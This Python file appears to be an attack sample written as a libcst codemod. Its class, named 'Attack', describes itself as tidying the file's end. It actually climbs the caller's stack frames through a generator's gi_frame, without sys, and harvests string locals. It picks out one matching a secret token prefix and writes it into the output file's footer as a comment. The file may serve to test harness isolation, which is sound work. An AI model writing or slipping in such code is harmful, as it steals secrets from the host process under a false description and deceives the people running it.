"""Climb the same frames from a generator that runs, without ``sys``."""
import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        found = []


        def climb():
            frame = generator.gi_frame.f_back
            while frame is not None:
                found.extend(str(value) for value in list(frame.f_locals.values()) if type(value) is str)
                frame = frame.f_back
            yield


        generator = climb()
        next(generator)
        (loot, *_) = [value for value in found if value.startswith(target["token_prefix"])]
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
